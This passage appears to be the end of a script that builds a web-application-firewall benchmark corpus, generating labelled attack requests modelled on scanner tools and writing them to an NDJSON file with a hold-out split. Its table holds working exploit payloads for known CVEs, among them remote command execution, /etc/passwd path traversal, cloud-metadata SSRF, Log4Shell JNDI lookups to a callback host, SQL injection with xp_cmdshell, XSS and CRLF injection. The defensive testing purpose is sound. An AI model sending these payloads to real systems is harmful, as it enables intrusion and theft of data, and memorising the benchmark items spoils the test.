    ['rce', 'gitlab-exiftool', () => ({ method: 'POST', uri: '/uploads/user', headers: { ...h(), 'content-type': 'multipart/form-data; boundary=----nuclei' }, body: '------nuclei\r\nContent-Disposition: form-data; name="file"; filename="test.jpg"\r\nContent-Type: image/jpeg\r\n\r\nAT&TFORM\u0000\u0000\u0003\u00afDJVMDIRM (metadata (Copyright "\\\n" . qx{id} . \\\n" b ") )\r\n------nuclei--\r\n' })],
    ['rce', 'jenkins-script', () => ({ method: 'POST', uri: '/script', headers: { ...h(), 'content-type': form }, body: `script=${encodeURIComponent('println "id".execute().text')}` })],
    ['rce', 'apache-ofbiz', () => ({ method: 'POST', uri: '/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y', headers: { ...h(), 'content-type': form }, body: `groovyProgram=${encodeURIComponent("throw new Exception('id'.execute().text);")}` })],
    ['path_traversal', 'apache-cve-2021-41773', () => ({ method: 'GET', uri: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', headers: h() })],
    ['path_traversal', 'apache-cve-2021-42013', () => ({ method: 'GET', uri: '/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65/etc/passwd', headers: h() })],
    ['rce', 'apache-cve-2021-41773-rce', () => ({ method: 'POST', uri: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', headers: { ...h(), 'content-type': form }, body: 'echo Content-Type: text/plain; echo; id' })],
    ['path_traversal', 'f5-cve-2020-5902', () => ({ method: 'GET', uri: '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd', headers: h() })],
    ['path_traversal', 'citrix-cve-2019-19781', () => ({ method: 'GET', uri: '/vpn/../vpns/cfg/smb.conf', headers: h() })],
    ['path_traversal', 'fortinet-cve-2018-13379', () => ({ method: 'GET', uri: '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession', headers: h() })],
    ['path_traversal', 'wp-plugin-lfi', () => ({ method: 'GET', uri: `/wp-content/plugins/${pick(['wp-file-manager', 'simple-file-list', 'mail-masta'])}/inc/download.php?file=../../../../wp-config.php`, headers: h() })],
    ['path_traversal', 'grafana-cve-2021-43798', () => ({ method: 'GET', uri: '/public/plugins/alertlist/../../../../../../../../etc/passwd', headers: h() })],
    ['path_traversal', 'spring-cloud-config', () => ({ method: 'GET', uri: '/..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd%23foo/development', headers: h() })],
    ['ssrf', 'exchange-proxyshell', () => ({ method: 'GET', uri: `/autodiscover/autodiscover.json?@${OAST()}/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@${OAST()}`, headers: h() })],
    ['ssrf', 'weblogic-uddi', () => ({ method: 'GET', uri: `/uddiexplorer/SearchPublicRegistries.jsp?rdoSearch=name&txtSearchname=sdf&selfor=Business+location&btnSubmit=Search&operator=http://169.254.169.254/latest/meta-data/`, headers: h() })],
    ['ssrf', 'jira-cve-2019-8451', () => ({ method: 'GET', uri: `/plugins/servlet/gadgets/makeRequest?url=https://${HOST}@169.254.169.254/latest/meta-data/`, headers: h() })],
    ['jndi', 'solr-log4shell', () => ({ method: 'GET', uri: `/solr/admin/collections?action=\${jndi:ldap://${OAST()}/a}`, headers: h() })],
    ['jndi', 'vcenter-log4shell', () => ({ method: 'GET', uri: '/websso/SAML2/SSO/vsphere.local?SAMLRequest=', headers: { ...h(), 'x-forwarded-for': `\${jndi:ldap://${OAST()}/a}` } })],
    ['jndi', 'unifi-log4shell', () => ({ method: 'POST', uri: '/api/login', headers: { ...h(), 'content-type': 'application/json' }, body: JSON.stringify({ username: 'user', password: 'pass', remember: `\${jndi:ldap://${OAST()}/a}`, strict: true }) })],
    ['ssti', 'craftcms-ssti', () => ({ method: 'GET', uri: `/actions/search/search?query=${encodeURIComponent("{{craft.app.view.evaluateDynamicContent('print(system(\"id\"));')}}")}`, headers: h() })],
    ['xss', 'reflected-probe', () => ({ method: 'GET', uri: `/search.php?q=%22%3E%3Csvg%2Fonload%3Dalert(document.domain)%3E`, headers: h() })],
    ['xss', 'wp-reflected', () => ({ method: 'GET', uri: `/wp-admin/admin-ajax.php?action=${pick(['wpdm_search', 'ays_survey', 'ulike'])}&s=%3C%2Fscript%3E%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E`, headers: h() })],
    ['sqli', 'wp-plugin-time', () => ({ method: 'GET', uri: `/wp-admin/admin-ajax.php?action=${pick(['get_question', 'bookingpress_front_get_category_services', 'tve_api_form_submit'])}&id=1+AND+(SELECT+1+FROM+(SELECT(SLEEP(6)))a)`, headers: h() })],
    ['sqli', 'wp-plugin-union', () => ({ method: 'GET', uri: '/wp-content/plugins/wp-statistics/includes/log/pages/page.php?ID=0+UNION+ALL+SELECT+NULL,CONCAT(0x7176786271,md5(999999999),0x716a767671),NULL--+-', headers: h() })],
    ['sqli', 'moveit-style', () => ({ method: 'POST', uri: '/moveitisapi/moveitisapi.dll?action=m2', headers: { ...h(), 'content-type': form }, body: "transaction=folder_add_by_path&InstID=1234&UserID=1';DECLARE @x varchar(99);SET @x='id';EXEC master..xp_cmdshell @x--" })],
    ['crlf', 'crlf-redirect', () => ({ method: 'GET', uri: `/%0d%0aSet-Cookie:crlfinjection=1`, headers: h() })],
    ['crlf', 'crlf-unicode', () => ({ method: 'GET', uri: `/%E5%98%8A%E5%98%8DSet-Cookie:crlfinjection=1`, headers: h() })],
    ['crlf', 'crlf-param', () => ({ method: 'GET', uri: `/redirect?url=%0d%0aLocation:%20https://${OAST()}`, headers: h() })],
    ['crlf', 'crlf-hash', () => ({ method: 'GET', uri: '/%23%0dSet-Cookie:crlfinjection=1', headers: h() })],
    ['crlf', 'crlf-double', () => ({ method: 'GET', uri: '/%250d%250aSet-Cookie:crlfinjection=1', headers: h() })],
    ['crlf', 'crlf-lf-only', () => ({ method: 'GET', uri: '/?lang=en%0aX-Injected:%20nuclei', headers: h() })],
  ]
  for (const [cls, technique, make] of cves) {
    for (let k = 0; k < 3; k++) {
      const req = make()
      const at: Position = req.body !== undefined ? (String(req.headers?.['content-type']).includes('json') ? 'json' : 'form') : /^\/[^?]*%24%7B|^\/cgi-bin|^\/tmui|^\/vpn|^\/public|^\/%/.test(req.uri) ? 'path' : req.uri.includes('?') ? 'query' : 'header'
      emit('nuclei', cls, technique, 'none', `cve:${technique}`, `${req.uri} ${req.body ?? ''}`, at, req)
    }
  }
}

sqlmap(1800)
zap()
burp()
xxeBodies()
xssTools()
commix()
sstiTools()
nosql()
lfi()
log4shell()
ssrf()
nucleiCves()

out.forEach((r, i) => (r.id = `tool-${String(i).padStart(4, '0')}`))
writeFileSync(new URL('./tool-payloads.ndjson', import.meta.url), `${out.map((r) => JSON.stringify(r)).join('\n')}\n`)
const held = out.filter((r) => r.holdout).length
console.log(`${out.length} requests (${held} in the hold-out) → bench/waf/corpora/tool-payloads.ndjson`)
